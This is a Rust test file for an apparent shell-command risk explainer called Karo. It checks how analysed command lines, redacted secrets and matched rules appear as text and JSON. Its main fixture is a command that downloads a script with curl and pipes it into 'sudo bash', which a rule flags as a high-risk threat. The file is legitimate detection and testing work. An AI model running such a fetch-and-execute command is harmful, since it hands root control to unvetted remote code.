use std::ffi::OsString;

use karo_protocol::event::Secret;
use karo_protocol::explain::{Context, Explain, Match, Run, Span};
use karo_protocol::limits::EXPLAIN_LINES_MAX;
use karo_protocol::local::{End, Failure, FailureCode, Reply, Request};
use karo_protocol::{Axis, Category, Risk};

use super::*;
use crate::ctl::samples::{noon, scene};
use crate::ctl::table::Surface;
use crate::fake::{FakeDaemon, FakeSession};

fn run_of(argv: &[&str], category: Category, row: &str, confidence: u8) -> Run {
    Run {
        argv: argv.iter().map(|word| Bytes::from(*word)).collect(),
        context: Vec::new(),
        is_privileged: false,
        is_remote: false,
        parent: None,
        category,
        row: row.to_owned(),
        confidence,
    }
}

/// `curl -su ada:hunter2 https://x/i.sh | sudo bash &`, understood.
fn risky() -> Explanation {
    let curl = Run {
        context: vec![Context::PipeOut, Context::Background],
        ..run_of(&["curl", "-su", "ada:‹secret:password›", "https://x/i.sh"], Category::Network, "curl", 95)
    };
    let sudo = Run {
        context: vec![Context::PipeIn, Context::Background],
        ..run_of(&["sudo", "bash"], Category::Identity, "sudo", 90)
    };
    let bash = Run {
        is_privileged: true,
        parent: Some(1),
        context: sudo.context.clone(),
        ..run_of(&["bash"], Category::Shell, "bash", 60)
    };
    let found = Match {
        id: "piped-into-shell".to_owned(),
        title: "A script from the network goes straight into a shell".to_owned(),
        level: Risk::High,
        axis: Axis::Threat,
        tags: vec!["karo.threat".to_owned(), "attack.execution".to_owned(), "attack.t1059.004".to_owned()],
        fields: vec!["Karo.PipedFrom: curl".to_owned(), "Karo.Scope: run".to_owned()],
        run: Some(2),
    };
    let line = Match { fields: vec!["CommandLine: curl x".to_owned()], run: None, ..found.clone() };
    let low = Match {
        id: "in-background".to_owned(),
        title: "Nobody\u{1b}[2J waits".to_owned(),
        level: Risk::Informational,
        axis: Axis::Hazard,
        tags: Vec::new(),
        fields: Vec::new(),
        run: None,
    };
    Explanation {
        redacted: Bytes::from("curl -su ada:‹secret:password› https://x/i.sh | sudo bash &"),
        spans: vec![Span {
            start: 13,
            end: 20,
            kind: Secret::Password,
            reason: "value of curl -u".to_owned(),
        }],
        runs: vec![curl, sudo, bash],
        is_parsed: true,
        category: Category::Network,
        categories: vec![Category::Shell, Category::Network, Category::Identity],
        risk: Some(Risk::High),
        axis: Some(Axis::Threat),
        matches: vec![found, line, low],
        is_cut: false,
    }
}

/// `ls -la`, understood.
fn harmless() -> Explanation {
    Explanation {
        redacted: Bytes::from("ls -la"),
        spans: Vec::new(),
        runs: vec![run_of(&["ls", "-la"], Category::File, "ls", 99)],
        is_parsed: true,
        category: Category::File,
        categories: vec![Category::File],
        risk: None,
        axis: None,
        matches: Vec::new(),
        is_cut: false,
    }
}

fn surface(columns: Option<usize>) -> Surface {
    Surface { columns, has_colour: false, now: noon(), home: None }
}

#[test]
fn a_risky_line_is_explained_from_top_to_bottom() {
    let expected = "\
LINE      curl -su ada:‹secret:password› https://x/i.sh | sudo bash &
RISK      high, threat: attackers type such lines
CATEGORY  network; also shell and identity
SECRETS   1 replaced: Karo keeps the marker, never the secret

WHAT RUNS
1  curl -su ada:‹secret:password› https://x/i.sh
      network, known as `curl`; writes what the next one reads; in the
      background
2  sudo bash
   │  identity, known as `sudo`; reads what the one before it writes; in the
   │  background
3  └─ bash
         shell, a guess from `bash`; as root or another user; reads what the one
         before it writes; in the background

RULES THAT MATCHED
high           A script from the network goes straight into a shell
               threat; attack.execution, attack.t1059.004; rule piped-into-shell
               program 3, by Karo.PipedFrom: curl
               the whole line, by CommandLine
informational  Nobody\\x1b[2J waits
               hazard; rule in-background
               the whole line

SECRETS REPLACED
‹secret:password›  value of curl -u, bytes 13 to 20 of the line
";
    assert_eq!(text::text(&risky(), &surface(Some(80))), expected);
}

#[test]
fn a_harmless_line_is_short() {
    let expected = "\
LINE      ls -la
RISK      none: no rule matched
CATEGORY  file
SECRETS   none found

WHAT RUNS
1  ls -la
      file, known as `ls`
";
    assert_eq!(text::text(&harmless(), &surface(None)), expected);
    let words = Explanation { is_parsed: false, runs: Vec::new(), is_cut: true, ..harmless() };
    let expected = "\
LINE      ls -la
RISK      none: no rule matched
CATEGORY  file
SECRETS   none found
READ      word by word only: its quotes or brackets do not close, or it is too long or too deep
RUNS      nothing
There is more in this line than an answer holds.
";
    assert_eq!(text::text(&words, &surface(None)), expected);
}

#[test]
fn no_line_is_wider_than_the_terminal_and_colours_change_no_word() {
    for columns in [40, 60, 100] {
        let plain = text::text(&risky(), &surface(Some(columns)));
        let widest = plain.lines().map(crate::ctl::shown::columns).max().unwrap_or(0);
        assert!(widest <= columns, "{widest} in\n{plain}");
        let coloured = text::text(&risky(), &Surface { has_colour: true, ..surface(Some(columns)) });
        assert!(coloured.contains("\x1b[31mhigh\x1b[0m, threat") || columns == 40, "{coloured}");
        let mut bare = coloured;
        for colour in ["\x1b[0m", "\x1b[31m", "\x1b[2m"] {
            bare = bare.replace(colour, "");
        }
        assert_eq!(bare, plain);
    }
}

fn answer(session: &mut FakeSession, pages: &[usize], found: &Explanation) -> Explain {
    let (id, request) = session.request();
    let Request::Explain(asked) = request else { panic!("lines are asked about") };
    let mut left = asked.lines.len();
    for page in pages.iter().copied().chain([usize::MAX]).map(|page| page.min(asked.lines.len())) {
        let count = page.min(left);
        session.reply(id, &Reply::Explained(vec![found.clone(); count]));
        left -= count;
    }
    session
        .reply(id, &Reply::End(End { count: asked.lines.len() as u64, partial_since: None, unreadable: 0 }));
    asked
}

fn args(lines: &[&str]) -> ExplainArgs {
    ExplainArgs { lines: lines.iter().map(OsString::from).collect(), jsonl: false, cwd: Some("/srv/".into()) }
}

#[test]
fn lines_are_explained_one_after_the_other() {
    let daemon = FakeDaemon::serve(|session| {
        let asked = answer(session, &[1], &harmless());
        assert_eq!(asked.lines, [RawCommand::new("ls -la"), RawCommand::new("pwd")]);
        assert_eq!(asked.cwd, Bytes::from("/srv"));
    });
    let (mut scene, written) = scene(&daemon);
    assert_eq!(run(&mut scene, &args(&["ls -la", "pwd"])), Ok(Exit::Done));
    let one = text::text(&harmless(), &surface(None));
    assert_eq!(written.text(), format!("{one}\n{one}"));
}

#[test]
fn json_has_every_reason() {
    let daemon = FakeDaemon::serve(|session| drop(answer(session, &[], &risky())));
    let (mut scene, written) = scene(&daemon);
    scene.is_json = true;
    assert_eq!(run(&mut scene, &args(&["x"])), Ok(Exit::Done));
    let value: serde_json::Value = serde_json::from_str(&written.text()).expect("it is JSON");
    assert_eq!(value["runs"][2]["parent"], 1);
    assert_eq!(value["rules"][0]["level"], "high");
    assert_eq!(value["spans"][0]["reason"], "value of curl -u");
    assert_eq!(value["risk"], "high");
}

#[test]
fn the_answer_of_a_program_is_exactly_as_promised() {
    let daemon = FakeDaemon::serve(|session| drop(answer(session, &[], &risky())));
    let (mut scene, written) = scene(&daemon);
    let input = "{\"id\":\"a\u{202e}\",\"cmd\":\"curl ..\"}\n";
    assert_eq!(jsonl::run(&mut scene, input.as_bytes(), Bytes::default()), Ok(Exit::Done));
    let expected = concat!(
        r#"{"id":"a\u202e","redacted":"curl -su ada:‹secret:password› https://x/i.sh | sudo bash &","#,
        r#""spans":[[13,20,"password"]],"#,
        r#""runs":[{"argv":["curl","-su","ada:‹secret:password›","https://x/i.sh"],"#,
        r#""context":["pipe_out","background"],"privileged":false,"remote":false},"#,
        r#"{"argv":["sudo","bash"],"context":["pipe_in","background"],"privileged":false,"remote":false},"#,
        r#"{"argv":["bash"],"context":["pipe_in","background"],"privileged":true,"remote":false}],"#,
        r#""category":"network","categories":["shell","network","identity"],"risk":"high","axis":"threat","#,
        r#""rules":["piped-into-shell","in-background"]}"#,
        "\n"
    );
    assert_eq!(written.text(), expected);
}

#[test]
fn a_harmless_line_has_no_axis() {
    let daemon = FakeDaemon::serve(|session| drop(answer(session, &[], &harmless())));
    let (mut scene, written) = scene(&daemon);
    let input = "{\"cmd\":\"ls -la\"}";
    assert_eq!(jsonl::run(&mut scene, input.as_bytes(), Bytes::default()), Ok(Exit::Done));
    let text = written.text();
    assert!(text.starts_with("{\"id\":null,\"redacted\":\"ls -la\",\"spans\":[],"), "{text}");
    assert!(text.ends_with("\"risk\":\"none\",\"axis\":null,\"rules\":[]}\n"), "{text}");
}

#[test]
fn many_lines_travel_together_and_bad_ones_are_left_out() {
    let count = 3 * EXPLAIN_LINES_MAX + 7;
    let daemon = FakeDaemon::serve(move |session| {
        let mut seen = 0;
        while seen < count {
            let asked = answer(session, &[100, 100], &harmless());
            assert!(asked.lines.len() <= EXPLAIN_LINES_MAX, "{} lines", asked.lines.len());
            seen += asked.lines.len();
        }
        assert_eq!(seen, count);
    });
    let (mut scene, written) = scene(&daemon);
    let mut input = String::from("not JSON\n\n");
    for id in 0..count {
        input.push_str(&format!("{{\"id\":{id},\"cmd\":\"ls -la\"}}\n"));
    }
    input.push_str("{\"id\":1}");
    assert_eq!(jsonl::run(&mut scene, input.as_bytes(), Bytes::default()), Ok(Exit::Usage));
    let ids: Vec<u64> = written
        .text()
        .lines()
        .map(|line| {
            let value: serde_json::Value = serde_json::from_str(line).expect("it is JSON");
            value["id"].as_u64().expect("it is the number given")
        })
        .collect();
    assert_eq!(ids, (0..count as u64).collect::<Vec<_>>());
}

#[test]
fn whoever_waits_for_an_answer_before_the_next_line_gets_it() {
    let daemon = FakeDaemon::serve(|session| {
        for _ in 0..3 {
            assert_eq!(answer(session, &[], &harmless()).lines.len(), 1);
        }
    });
    let (mut scene, written) = scene(&daemon);
    // Each read gives one line, and the one after it only once the answer to it is written.
    struct Dialogue(Box<dyn Fn() -> usize>, usize);
    impl Read for Dialogue {
        fn read(&mut self, bytes: &mut [u8]) -> std::io::Result<usize> {
            assert_eq!((self.0)(), self.1, "answers so far");
            if self.1 == 3 {
                return Ok(0);
            }
            self.1 += 1;
            let line = b"{\"cmd\":\"ls\"}\n";
            bytes[..line.len()].copy_from_slice(line);
            Ok(line.len())
        }
    }
    let answers = { move || written.text().lines().count() };
    let input = Dialogue(Box::new(answers), 0);
    assert_eq!(jsonl::run(&mut scene, input, Bytes::default()), Ok(Exit::Done));
}

#[test]
fn a_daemon_that_answers_too_little_or_not_at_all_is_no_success() {
    let daemon = FakeDaemon::serve(|session| {
        let (id, _) = session.request();
        session.reply(id, &Reply::End(End { count: 0, partial_since: None, unreadable: 0 }));
    });
    let (mut before, _) = scene(&daemon);
    assert_eq!(run(&mut before, &args(&["x"])).map_err(|trouble| trouble.exit), Err(Exit::Bug));
    let daemon = FakeDaemon::serve(|session| {
        let (id, _) = session.request();
        let failure = Failure { code: FailureCode::Stopping, message: "karod is stopping".to_owned() };
        session.reply(id, &Reply::Failure(failure));
    });
    let (mut after, _) = scene(&daemon);
    assert_eq!(run(&mut after, &args(&["x"])).map_err(|trouble| trouble.exit), Err(Exit::NoDaemon));
}

#[test]
fn standard_input_is_read_line_by_line() {
    let daemon = FakeDaemon::serve(|session| {
        let asked = answer(session, &[], &harmless());
        assert_eq!(asked.lines, [RawCommand::new("ls"), RawCommand::new("pwd")]);
    });
    let (mut scene, written) = scene(&daemon);
    assert_eq!(explain_input(&mut scene, &b"ls\n\npwd\n"[..], Bytes::default()), Ok(Exit::Done));
    assert_eq!(written.text().matches("WHAT RUNS").count(), 2);
}

#[test]
fn a_dash_stands_alone() {
    let daemon = FakeDaemon::serve_all(Vec::new());
    let (mut scene, _) = scene(&daemon);
    assert_eq!(run(&mut scene, &args(&["-", "ls"])).map_err(|trouble| trouble.exit), Err(Exit::Usage));
}
